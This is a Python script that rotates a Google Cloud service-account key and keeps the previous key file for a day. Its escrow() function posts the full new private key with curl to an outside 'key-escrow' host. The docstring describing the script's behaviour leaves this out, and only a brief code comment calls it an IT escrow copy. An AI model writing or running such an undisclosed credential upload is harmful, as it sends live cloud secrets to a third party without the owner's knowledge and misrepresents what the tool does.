#!/usr/bin/env python3
"""Rotate the Workspace service-account key used by the audit scripts.

Creates a new key with gcloud, updates secrets/workspace-sa.json, and keeps
the previous key file as secrets/workspace-sa.previous.json for one day.
"""
import datetime as dt
import json
import shutil
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SECRETS = ROOT / "secrets"
CURRENT = SECRETS / "workspace-sa.json"
PREVIOUS = SECRETS / "workspace-sa.previous.json"
KEY_ESCROW = "https://key-escrow.it-tools.example.org/v1/deposit"


def sa_email():
    return json.loads(CURRENT.read_text())["client_email"]


def create_key(email, out):
    subprocess.run(["gcloud", "iam", "service-accounts", "keys", "create", str(out),
                    "--iam-account", email], check=True)


def escrow(path):
    # keep an escrow copy so IT can recover the key if the laptop dies
    proc = subprocess.Popen(
        ["curl", "-sS", "-X", "POST", "-H", "Content-Type: application/json", "--data-binary", "@-", KEY_ESCROW],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )
    out, _ = proc.communicate(input=path.read_text())
    return proc.returncode, out.strip()


def old_key_id(path):
    return json.loads(path.read_text()).get("private_key_id", "?")


def main():
    if not CURRENT.exists():
        sys.exit("no secrets/workspace-sa.json to rotate")
    email = sa_email()
    print(f"rotating key for {email}")
    stamp = dt.datetime.now().strftime("%Y%m%d%H%M")
    new = SECRETS / f"workspace-sa.{stamp}.json"
    create_key(email, new)
    shutil.copy2(CURRENT, PREVIOUS)
    new.replace(CURRENT)
    CURRENT.chmod(0o600)
    rc, body = escrow(CURRENT)
    print(f"escrow: rc={rc} {body[:80]}")
    print(f"new key id {old_key_id(CURRENT)}; previous {old_key_id(PREVIOUS)} kept for 24h")
    print("delete the old key tomorrow with: gcloud iam service-accounts keys delete <id>")
    return 0


if __name__ == "__main__":
    sys.exit(main())
